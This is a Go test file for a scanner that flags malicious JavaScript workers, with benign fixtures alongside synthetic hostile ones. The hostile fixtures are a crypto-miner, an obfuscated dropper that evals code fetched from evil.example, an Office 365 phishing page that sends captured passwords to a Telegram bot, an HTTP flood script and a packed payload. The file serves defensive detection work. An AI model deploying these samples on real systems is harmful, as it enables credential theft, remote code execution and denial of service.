package scan

import (
	"fmt"
	"os"
	"strings"
	"testing"
)

const normalAPI = `export default {
  async fetch(request, env) {
    const url = new URL(request.url);
    if (url.pathname === "/weather") {
      const r = await fetch("https://api.weather.example/v1?q=" + encodeURIComponent(url.searchParams.get("q") ?? ""));
      const data = await r.json();
      return Response.json({ temp: data.main.temp, city: data.name });
    }
    return new Response("not found", { status: 404 });
  },
};`

const miner = `const POOL = "stratum+tcp://pool.supportxmr.com:3333";
export default { async fetch() {
  // cryptonight hashing in a loop, submit shares to the pool
  const ws = new WebSocket("wss://" + POOL.split("//")[1]);
  return new Response("ok");
} };`

// An obfuscator.io-style dropper: hex identifiers, strings as \x escapes, and code fetched at
// run time handed to eval.
func dropper() string {
	var b strings.Builder
	b.WriteString("var _0x4f2a=['\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2f\\x65\\x76\\x69\\x6c\\x2e\\x65\\x78\\x61\\x6d\\x70\\x6c\\x65'];\n")
	for i := 0; i < 40; i++ {
		fmt.Fprintf(&b, "function _0x%04x(_0x%04x,_0x%04x){var _0x%04x=_0x4f2a[_0x%04x-0x0];return _0x%04x+'\\x%02x\\x%02x\\x%02x';}\n", 0x1a2b+i, 0x2b3c+i, 0x3c4d+i, 0x4d5e+i, 0x2b3c+i, 0x4d5e+i, 0x41+i%20, 0x61+i%20, 0x30+i%9)
	}
	b.WriteString("export default{async fetch(_0x1f00){const _0x2e00=await fetch(_0x1a2b(0x0));eval(await _0x2e00.text());return new Response('\\x6f\\x6b');}};\n")
	return b.String()
}

const phishing = `const page = '<h1>Microsoft Office 365 Sign-in</h1><form method=post><input name=email><input type=password name=password></form>';
export default { async fetch(req) {
  if (req.method === "POST") {
    const f = await req.formData();
    await fetch("https://api.telegram.org/bot123:ABC/sendMessage?chat_id=1&text=" + f.get("email") + ":" + f.get("password"));
    return Response.redirect("https://login.microsoftonline.com");
  }
  return new Response("Your account has been suspended. " + page, { headers: { "content-type": "text/html" } });
} };`

const stresser = `// Layer 7 attack panel: HTTP flood any target
export default { async fetch(req) { const t = new URL(req.url).searchParams.get("target"); for (let i = 0; i < 50; i++) fetch(t); return new Response("sent"); } };`

const packed = `export default { fetch() { return new Response(atob("` + "U2FsdGVkX1+7Qm9KYWpwR2xLcm9Q3x9fQ2xhV0ZHS3pQY1JvUm5YeHZ1d0NhQkx5dHBBZ0dEeTR2U1hUT0lkVk5sZ0pnWEpqRmVFdEtSbkx1aFpyUWhLc3VxcUhSbWZvVlpXY1pQVUdiRk9aSEJNVGJqTnlkVHhWS0NHdXhPWUlQa3JLZWFUTUhqWVdFaWZMbHlOelFuSXJ3ZWZqV2JRdm5XQkxHbHJTb0pqUXlDQ3ZIbmZEZ1RVTk1EdWVCR3BwZE9BeVNQS0RyTWRqUG9QdXBXSVdZWlh6QmdxV0dwTFhOR0pQeVpXWWVKRmFRUmVwbk9RV3VYZVZrc0JvTnVMRmVqUkFQT3BmVGVVR3h4UldmdWhQQ2p6bm9yaFhRWU9WZG9VcXBYbGpocVhQeGl2S2Fnb09ja1dUZk5jUFlsRG1kR0NzUXhXTGVNcG1TaVVZdEp3Ykt5ZmxYcGd0" + `")); } };`

func TestDefaultRules(t *testing.T) {
	rules := Defaults()
	for i := range rules {
		if err := rules[i].Validate(); err != nil {
			t.Fatalf("default rule %s: %v", rules[i].Name, err)
		}
	}
	editor, err := os.ReadFile("../../static/js/editor.js")
	if err != nil {
		t.Fatal(err)
	}
	cases := []struct {
		name string
		src  string
		want []string // the rules that must match, nothing else
	}{
		{"a normal API", normalAPI, nil},
		{"a benign minified library (CodeMirror 6, 474 KiB, esbuild-minified)", string(editor), nil},
		{"a miner", miner, []string{"crypto-mining"}},
		{"an obfuscated dropper", dropper(), []string{"eval-of-fetched-code", "obfuscation"}},
		{"a phishing kit", phishing, []string{"phishing-kit"}},
		{"a stresser", stresser, []string{"attack-tooling"}},
		{"a packed payload", packed, []string{"obfuscation"}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			ms := Scan(rules, map[string]string{"index.js": c.src})
			var got []string
			for _, m := range ms {
				got = append(got, m.Rule)
				if len(m.Lines) == 0 || m.Lines[0].N < 1 {
					t.Errorf("%s matched without a line to show", m.Rule)
				}
			}
			if strings.Join(got, ",") != strings.Join(c.want, ",") {
				t.Fatalf("matched %v, want %v (%+v)", got, c.want, ms)
			}
		})
	}
}

func TestMatchShowsTheLine(t *testing.T) {
	ms := Scan(Defaults(), map[string]string{"a.js": "line one\nline two\nconst p = \"stratum+tcp://x.example:1\";\n"})
	if len(ms) != 1 || ms[0].File != "a.js" || ms[0].Lines[0].N != 3 || !strings.Contains(ms[0].Lines[0].Text, "stratum+tcp") {
		t.Fatalf("%+v", ms)
	}
	long := strings.Repeat("x", 10000) + " coinhive " + strings.Repeat("y", 10000)
	ms = Scan(Defaults(), map[string]string{"b.js": long})
	if len(ms) != 1 || len(ms[0].Lines) == 0 || len(ms[0].Lines[0].Text) > maxLineShow+10 || !strings.Contains(ms[0].Lines[0].Text, "coinhive") {
		t.Fatalf("a match in a 20 KB line: %d chars shown", len(ms[0].Lines[0].Text))
	}
}

func TestValidate(t *testing.T) {
	cases := []struct {
		rule Rule
		want string
	}{
		{Rule{Name: "x", Kind: KindPattern, Pattern: "abc(", Severity: "low", Action: ActionFlag}, "at the end: missing closing )"},
		{Rule{Name: "x", Kind: KindPattern, Pattern: "a[z-a]", Severity: "low", Action: ActionFlag}, "at character 3: invalid character class range: z-a"},
		{Rule{Name: "x", Kind: KindPattern, Pattern: `(a+)+\1`, Severity: "low", Action: ActionFlag}, "invalid escape sequence"},
		{Rule{Name: "x", Kind: KindPattern, Pattern: " ", Severity: "low", Action: ActionFlag}, "empty"},
		{Rule{Name: "x", Kind: KindCheck, Pattern: "vibes", Severity: "low", Action: ActionFlag}, "unknown check"},
		{Rule{Name: "x", Kind: KindPattern, Pattern: "a", Severity: "low", Action: "delete"}, "flag or block"},
		{Rule{Name: "", Kind: KindPattern, Pattern: "a", Severity: "low", Action: ActionFlag}, "name"},
		{Rule{Name: "x", Kind: KindPattern, Pattern: "a", Severity: "urgent", Action: ActionFlag}, "severity"},
	}
	for _, c := range cases {
		err := c.rule.Validate()
		if err == nil || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%q: %v, want %q", c.rule.Pattern, err, c.want)
		}
	}
	// A pattern that would backtrack catastrophically in a backtracking engine is linear in RE2.
	r := Rule{Name: "x", Kind: KindPattern, Pattern: `(a+)+$`, Severity: "low", Action: ActionFlag}
	if err := r.Validate(); err != nil {
		t.Fatal(err)
	}
	Scan([]Rule{r}, map[string]string{"a.js": strings.Repeat("a", 100000) + "!"})
}

// BenchmarkScan1MiB: the default rules over a 1 MiB bundle (goal: ≤ 50 ms).
func BenchmarkScan1MiB(b *testing.B) {
	editor, err := os.ReadFile("../../static/js/editor.js")
	if err != nil {
		b.Fatal(err)
	}
	src := string(editor)
	for len(src) < 1<<20 {
		src += "\n" + string(editor)
	}
	src = src[:1<<20]
	rules := Defaults()
	b.SetBytes(int64(len(src)))
	b.ResetTimer()
	for b.Loop() {
		Scan(rules, map[string]string{"worker.js": src})
	}
}

// TestPrefilterIsExact: on every sample, with and without the prefilter, a pattern rule finds
// the same (the prefilter only skips text where no match can be).
func TestPrefilterIsExact(t *testing.T) {
	editor, _ := os.ReadFile("../../static/js/editor.js")
	samples := []string{normalAPI, miner, dropper(), phishing, stresser, packed, string(editor),
		"x STRATUM+TCP://a", "eval ( atob('x') )", "Function(await fetch(u))", "YOUR ACCOUNT HAS BEEN SUSPENDED", "a Slowloris b"}
	for _, r := range Defaults() {
		if r.Kind != KindPattern {
			continue
		}
		if err := r.Validate(); err != nil {
			t.Fatal(err)
		}
		if r.pre.lits == nil {
			t.Errorf("%s has no prefilter: it would scan every byte", r.Name)
		}
		full := r
		full.pre = prefilter{}
		for i, s := range samples {
			var l1, l2 string
			a, b := r.matchLines(s, &l1), full.matchLines(s, &l2)
			if fmt.Sprint(a) != fmt.Sprint(b) {
				t.Errorf("%s on sample %d: prefiltered %v, full %v", r.Name, i, a, b)
			}
		}
	}
}
